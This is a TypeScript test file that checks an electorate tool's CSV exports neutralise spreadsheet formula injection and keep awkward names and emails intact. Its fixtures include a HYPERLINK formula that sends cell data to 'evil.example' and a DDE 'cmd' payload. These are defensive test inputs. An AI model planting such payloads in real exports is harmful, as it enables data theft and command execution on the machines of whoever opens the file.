import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { expectedElectorate } from '../../tools/world/expected.js'
import { generateWorld } from '../../tools/world/generate.js'
import type { World } from '../../tools/world/types.js'
import { expectSameFindings, NOW, runElectorate } from './harness.js'

/** Profile names and emails that break naive CSV writers, or that a spreadsheet would run as formulas. */
const PROFILES: { name: string; email: string }[] = [
  { name: 'Doe, Jane "JJ"', email: 'jane.doe+tag@example.com' },
  { name: '=HYPERLINK("http://evil.example/?"&A1,"click")', email: '=1+1@example.com' },
  { name: '+Plus Person', email: '+plus@example.com' },
  { name: '-Minus Person', email: '-minus@example.com' },
  { name: '@At Person', email: '"@quoted, local"@example.com' },
  { name: 'Zoë Ñandú 李小龍 👩‍💻', email: 'zoë@exämple.com' },
  { name: 'Line one\nLine two\r\nthree', email: 'lines@example.com' },
  { name: '\tTabbed\tName', email: 'tabs@example.com' },
  { name: '\rCarriage', email: "o'brien@example.com" },
  { name: 'Semi; colon\'s "quoted"', email: 'semi;colon@example.com' }
]

/** Commit identities linked to no account. */
const UNLINKED: { name: string; email: string }[] = [
  { name: "=cmd|' /C calc'!A0", email: '"comma, quote"@unlinked.example' },
  { name: '-dash\nnewline, comma', email: '@lead@unlinked.example' }
]

/** A small world whose people carry the awkward names and emails above. */
function awkwardWorld(): { world: World; profiles: Map<string, { name: string; email: string }> } {
  const world = generateWorld({ scale: 'small', seed: 5, now: NOW })
  const active = expectedElectorate(world, {
    since: new Date('2025-04-07T00:00:00Z'),
    until: new Date('2026-04-07T00:00:00Z')
  }).people.map(p => p.login)
  expect(active.length).toBeGreaterThanOrEqual(PROFILES.length)
  const profiles = new Map(active.slice(0, PROFILES.length).map((login, i) => [login, PROFILES[i]]))
  for (const user of world.users) Object.assign(user, profiles.get(user.login) ?? {})

  const authors = world.repositories.flatMap(r => r.commits).flatMap(c => c.authors)
  const unlinkedEmails = [
    ...new Set(authors.filter(a => a.login === null && a.email.endsWith('.example')).map(a => a.email))
  ]
  expect(unlinkedEmails.length).toBeGreaterThanOrEqual(UNLINKED.length)
  const renamed = new Map(unlinkedEmails.slice(0, UNLINKED.length).map((email, i) => [email, UNLINKED[i]]))
  for (const author of authors) Object.assign(author, renamed.get(author.email) ?? {})
  return { world, profiles }
}

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r']

/** Rows of a CSV as written: the spreadsheet guard's leading `'` still there. */
function rowsOf(csv: Buffer): Record<string, string>[] {
  return parse(csv, { columns: true }) as Record<string, string>[]
}

/** A cell as the person wrote it: the one `'` the guard puts before a formula start taken off. */
function unguarded(cell: string): string {
  return cell.startsWith("'") && FORMULA_STARTS.includes(cell.charAt(1)) ? cell.slice(1) : cell
}

describe('awkward names and emails', () => {
  const { world, profiles } = awkwardWorld()

  it('are written safely and read back as they were by a CSV parser', async () => {
    const run = await runElectorate(world)
    expect(run.code, run.stderr).toBe(0)

    // helios-voters.csv is left out: it is Helios's upload format, whose emails must stay as they are.
    for (const [name, bytes] of run.files) {
      if (!name.endsWith('.csv') || name === 'helios-voters.csv') continue
      for (const row of rowsOf(bytes))
        for (const [column, cell] of Object.entries(row))
          expect(FORMULA_STARTS.includes(cell.charAt(0)), `${name} ${column}: ${JSON.stringify(cell)}`).toBe(
            false
          )
    }

    const contributors = rowsOf(run.files.get('contributors.csv')!)
    for (const [login, profile] of profiles) {
      const row = contributors.find(r => r.login === login)!
      expect({ name: unguarded(row.name), email: unguarded(row.email) }, login).toEqual(profile)
    }
    const electorate = rowsOf(run.files.get('electorate.csv')!)
    expect(electorate.some(r => profiles.has(r.login))).toBe(true)
    for (const row of electorate.filter(r => profiles.has(r.login))) {
      expect({ name: unguarded(row.name), email: unguarded(row.email) }).toEqual(profiles.get(row.login))
    }
    const unlinked = rowsOf(run.files.get('unlinked.csv')!).map(r => ({
      name: unguarded(r.name),
      email: unguarded(r.email)
    }))
    for (const identity of UNLINKED) expect(unlinked).toContainEqual(identity)
  })

  it('give the same bytes in every CSV, run after run', async () => {
    const [first, second] = [await runElectorate(world), await runElectorate(world)]
    expect(first.code, first.stderr).toBe(0)
    expect(second.code, second.stderr).toBe(0)
    const csvs = [...first.files.keys()].filter(name => name.endsWith('.csv'))
    expect(csvs).toEqual(
      expect.arrayContaining(['contributors.csv', 'electorate.csv', 'evidence.csv', 'unlinked.csv'])
    )
    for (const name of csvs) expect(second.files.get(name)?.equals(first.files.get(name)!), name).toBe(true)
    expectSameFindings(second, first)
  })
})
